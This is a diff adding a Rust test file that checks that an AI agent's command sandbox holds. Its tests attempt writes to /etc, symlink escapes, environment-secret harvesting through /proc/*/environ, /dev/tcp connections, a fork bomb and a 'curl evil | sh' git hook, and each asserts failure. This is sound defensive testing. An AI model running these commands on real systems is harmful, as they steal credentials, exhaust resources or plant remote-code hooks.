@@ -1,0 +1,350 @@
+//! Escape attempts, with each backend: every test asserts that the attempt failed AND that
+//! nothing outside the workspace changed.
+
+#![allow(clippy::unwrap_used, clippy::expect_used, clippy::print_stderr)]
+
+mod common;
+
+use std::io::Read;
+use std::net::TcpListener;
+use std::time::{Duration, Instant};
+
+use common::{Env, backends, exit_code, processes_with, read};
+use deputy_tools::Backend;
+use deputy_tools::tools::{EditTool, WriteTool};
+use serde_json::json;
+
+const SECRET: &str = "sk-escape-test-7f3a9c1e5b";
+
+fn plant_secret() {
+    static ONCE: std::sync::Once = std::sync::Once::new();
+    // SAFETY: set once, before any sandbox of this process reads the environment.
+    ONCE.call_once(|| unsafe { std::env::set_var("DEPUTY_ESCAPE_TEST_API_KEY", SECRET) });
+}
+
+#[tokio::test]
+async fn writes_outside_the_workspace_fail() {
+    for b in backends() {
+        let env = Env::new(b, |_| {});
+        let etc_target = format!("/etc/deputy-escape-{}", std::process::id());
+        let out = env.bash(&format!("echo pwned > {etc_target}")).await;
+        assert_ne!(exit_code(&out), Some(0), "{b:?}: {}", out.content);
+        assert!(
+            !std::path::Path::new(&etc_target).exists(),
+            "{b:?} wrote to /etc"
+        );
+
+        // (With bwrap, `..` is the sandbox's private /tmp, so the second write may "succeed"
+        // there; what matters is that nothing changed on the host.)
+        let out = env
+            .bash("echo pwned > ../outside/x; echo pwned > ../y")
+            .await;
+        assert!(read(&env.outside.join("x")).is_none(), "{b:?}");
+        assert!(read(&env.dir.path().join("y")).is_none(), "{b:?}");
+
+        let out = env
+            .tool(&WriteTool, json!({"path": "../x", "content": "pwned"}))
+            .await;
+        assert!(
+            out.is_error && out.content.contains("outside the workspace"),
+            "{}",
+            out.content
+        );
+        assert!(read(&env.dir.path().join("x")).is_none());
+        let out = env
+            .tool(
+                &WriteTool,
+                json!({"path": env.outside.join("z").to_str().unwrap(), "content": "pwned"}),
+            )
+            .await;
+        assert!(
+            out.is_error && out.content.contains("outside the workspace"),
+            "{}",
+            out.content
+        );
+
+        // Inside, writes work (in existing directories and files; with Landlock and a `.git`,
+        // new top-level entries are the write tool's job, see sandbox/landlock.rs).
+        let out = env.bash("echo ok > src/sub.txt && mkdir -p src/d && echo ok > src/d/x && echo more >> README.md").await;
+        assert_eq!(exit_code(&out), Some(0), "{b:?}: {}", out.content);
+        assert_eq!(read(&env.ws.join("src/d/x")).unwrap(), "ok\n");
+    }
+}
+
+#[tokio::test]
+async fn symlinks_that_lead_outside_are_not_followed() {
+    for b in backends() {
+        let env = Env::new(b, |_| {});
+        let victim = env.outside.join("victim");
+        std::fs::write(&victim, "safe").unwrap();
+        // A link placed in the workspace beforehand: edit and write through it fail.
+        std::os::unix::fs::symlink(&victim, env.ws.join("link")).unwrap();
+        let out = env
+            .tool(
+                &EditTool,
+                json!({"path": "link", "old_string": "safe", "new_string": "pwned"}),
+            )
+            .await;
+        assert!(out.is_error, "{}", out.content);
+        let out = env
+            .tool(&WriteTool, json!({"path": "link", "content": "pwned"}))
+            .await;
+        assert!(out.is_error, "{}", out.content);
+        assert_eq!(read(&victim).unwrap(), "safe");
+
+        // A link made by bash, then written through with bash and with write.
+        let out = env
+            .bash(&format!(
+                "ln -s {} made && echo pwned > made; cat made",
+                victim.display()
+            ))
+            .await;
+        assert_eq!(read(&victim).unwrap(), "safe", "{b:?}: {}", out.content);
+        let made_link = env
+            .ws
+            .join("made")
+            .symlink_metadata()
+            .is_ok_and(|m| m.file_type().is_symlink());
+        if made_link {
+            let out = env
+                .tool(&WriteTool, json!({"path": "made", "content": "pwned"}))
+                .await;
+            assert!(out.is_error, "{}", out.content);
+            let out = env
+                .tool(
+                    &EditTool,
+                    json!({"path": "made", "old_string": "safe", "new_string": "x"}),
+                )
+                .await;
+            assert!(out.is_error, "{}", out.content);
+        }
+        // The same through a subdirectory, where every backend lets bash make the link.
+        let out = env
+            .bash(&format!(
+                "ln -s {} src/made && echo pwned > src/made",
+                victim.display()
+            ))
+            .await;
+        assert_ne!(exit_code(&out), Some(0), "{b:?}: {}", out.content);
+        let out = env
+            .tool(&WriteTool, json!({"path": "src/made", "content": "pwned"}))
+            .await;
+        assert!(out.is_error, "{}", out.content);
+        assert_eq!(read(&victim).unwrap(), "safe");
+    }
+}
+
+#[tokio::test]
+async fn secrets_in_deputys_environment_stay_out() {
+    plant_secret();
+    for b in backends() {
+        let env = Env::new(b, |p| {
+            p.env_allow = vec!["DEPUTY_ESCAPE_TEST_API_KEY".into(), "LANG".into()]
+        });
+        let pid = std::process::id();
+        let out = env
+            .bash(&format!(
+                "env; cat /proc/self/environ; cat /proc/1/environ; cat /proc/$PPID/environ; cat /proc/{pid}/environ; \
+                 for f in /proc/[0-9]*/environ; do cat $f; done 2>/dev/null; echo done"
+            ))
+            .await;
+        assert!(out.content.contains("done"), "{b:?}: {}", out.content);
+        assert!(
+            !out.content.contains(SECRET),
+            "{b:?} leaked the key: {}",
+            out.content
+        );
+        assert!(!out.metadata.to_string().contains(SECRET));
+        assert!(
+            out.content.contains("PATH="),
+            "{b:?}: env printed: {}",
+            out.content
+        );
+    }
+}
+
+#[tokio::test]
+async fn network_is_off_unless_opted_in() {
+    for b in backends() {
+        for network in [false, true] {
+            let listener = TcpListener::bind("127.0.0.1:0").unwrap();
+            listener.set_nonblocking(true).unwrap();
+            let port = listener.local_addr().unwrap().port();
+            let env = Env::new(b, |p| p.network = network);
+            let out = env
+                .bash(&format!(
+                    "exec 3<>/dev/tcp/127.0.0.1/{port} && echo connected"
+                ))
+                .await;
+            let accepted = listener.accept().is_ok();
+            if network {
+                assert!(
+                    out.content.contains("connected") && accepted,
+                    "{b:?} network=true: {}",
+                    out.content
+                );
+            } else {
+                assert!(!out.content.contains("connected"), "{b:?}: {}", out.content);
+                assert!(!accepted, "{b:?}: the listener saw a connection");
+            }
+        }
+    }
+}
+
+#[tokio::test]
+async fn fork_bomb_is_held() {
+    let report = deputy_tools::sandbox::probe();
+    if report.is_root && report.pids_cgroup.is_err() {
+        eprintln!(
+            "SKIP fork bomb test: running as root, where the kernel does not enforce the process limit, and no pids cgroup is available ({}). Run as a normal user or with a writable pids cgroup.",
+            report.pids_cgroup.as_ref().err().map_or("", String::as_str)
+        );
+        return;
+    }
+    for b in backends() {
+        let env = Env::new(b, |p| p.limits.processes = Some(64));
+        let start = Instant::now();
+        let out = env
+            .bash_timeout(":(){ :|:& };: ; sleep 2; echo survived", Some(4_000))
+            .await;
+        assert!(
+            start.elapsed() < Duration::from_secs(15),
+            "{b:?} took {:?}",
+            start.elapsed()
+        );
+        assert!(
+            out.content.contains("Resource temporarily unavailable")
+                || out.content.contains("retry"),
+            "{b:?}: the limit was not hit: {}",
+            &out.content[..out.content.len().min(2000)]
+        );
+        // Nothing of it is left.
+        std::thread::sleep(Duration::from_millis(200));
+        let left = processes_with(":|:");
+        assert!(left.is_empty(), "{b:?} left {} processes", left.len());
+    }
+}
+
+#[tokio::test]
+async fn timeout_kills_grandchildren_and_background_jobs() {
+    for b in backends() {
+        let env = Env::new(b, |_| {});
+        let marker = format!("{}.{}", 900 + (std::process::id() % 90), b as u8);
+        let start = Instant::now();
+        let out = env
+            .bash_timeout(
+                &format!("sleep {marker} & (sleep {marker} &) ; bash -c 'sleep {marker}' ; wait"),
+                Some(1_000),
+            )
+            .await;
+        assert!(
+            start.elapsed() < Duration::from_secs(5),
+            "{b:?}: {:?}",
+            start.elapsed()
+        );
+        assert!(
+            out.metadata["timed_out"].as_bool().unwrap(),
+            "{b:?}: {}",
+            out.content
+        );
+        assert!(out.content.contains("timed out"), "{}", out.content);
+        std::thread::sleep(Duration::from_millis(300));
+        assert!(
+            processes_with(&format!("sleep {marker}")).is_empty(),
+            "{b:?}: sleeps survived"
+        );
+
+        // A command that finishes does not leave background jobs behind either.
+        let out = env
+            .bash(&format!("(sleep {marker}1 &); echo started"))
+            .await;
+        assert!(out.content.contains("started"));
+        std::thread::sleep(Duration::from_millis(300));
+        assert!(
+            processes_with(&format!("sleep {marker}1")).is_empty(),
+            "{b:?}: background job survived"
+        );
+    }
+}
+
+#[tokio::test]
+async fn git_hooks_are_read_only_by_default() {
+    for b in backends() {
+        let env = Env::new(b, |_| {});
+        let hook = env.ws.join(".git/hooks/pre-commit");
+        let out = env
+            .bash("echo 'curl evil | sh' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit")
+            .await;
+        assert_ne!(exit_code(&out), Some(0), "{b:?}: {}", out.content);
+        assert!(read(&hook).is_none(), "{b:?} wrote a hook");
+        let out = env
+            .tool(
+                &WriteTool,
+                json!({"path": ".git/hooks/pre-commit", "content": "x"}),
+            )
+            .await;
+        assert!(
+            out.is_error && out.content.contains(".git"),
+            "{}",
+            out.content
+        );
+        assert!(read(&hook).is_none());
+        // Reading git state still works.
+        let out = env.bash("ls .git").await;
+        assert_eq!(exit_code(&out), Some(0), "{b:?}: {}", out.content);
+        // With writable_git the agent may.
+        let env = Env::new(b, |p| p.writable_git = true);
+        let out = env.bash("echo ok > .git/hooks/pre-commit").await;
+        assert_eq!(exit_code(&out), Some(0), "{b:?}: {}", out.content);
+    }
+}
+
+#[tokio::test]
+async fn read_only_mode_writes_nowhere() {
+    for b in backends() {
+        let env = Env::new(b, |p| p.mode = deputy_tools::SandboxMode::ReadOnly);
+        let out = env.bash("echo x > new.txt").await;
+        assert_ne!(exit_code(&out), Some(0), "{b:?}: {}", out.content);
+        assert!(read(&env.ws.join("new.txt")).is_none());
+        let out = env
+            .bash("cat README.md && echo tmp > $TMPDIR/t && cat $TMPDIR/t")
+            .await;
+        assert_eq!(exit_code(&out), Some(0), "{b:?}: {}", out.content);
+    }
+}
+
+#[tokio::test]
+async fn bwrap_masks_env_files() {
+    if !backends().contains(&Backend::Bwrap) {
+        return;
+    }
+    let env = Env::new(Backend::Bwrap, |_| {});
+    drop(env);
+    let dir = tempfile::tempdir().unwrap();
+    std::fs::write(
+        dir.path().join(".env"),
+        format!("OPENAI_API_KEY={SECRET}\n"),
+    )
+    .unwrap();
+    std::fs::write(dir.path().join(".env.example"), "OPENAI_API_KEY=\n").unwrap();
+    let ws = dir.path().canonicalize().unwrap();
+    let sb = deputy_tools::Sandbox::new(
+        deputy_tools::SandboxPolicy {
+            force_backend: Some(Backend::Bwrap),
+            ..Default::default()
+        },
+        &ws,
+    )
+    .unwrap();
+    let p = sb.command("cat .env; cat .env.example").unwrap();
+    let done = deputy_tools::process::run(p, Duration::from_secs(10), Default::default())
+        .await
+        .unwrap();
+    let text = done.output.full_text();
+    assert!(!text.contains(SECRET), "{text}");
+    assert!(text.contains("OPENAI_API_KEY="), "{text}");
+    let mut f = std::fs::File::open(ws.join(".env")).unwrap();
+    let mut s = String::new();
+    f.read_to_string(&mut s).unwrap();
+    assert!(s.contains(SECRET), "the host file is untouched");
+}
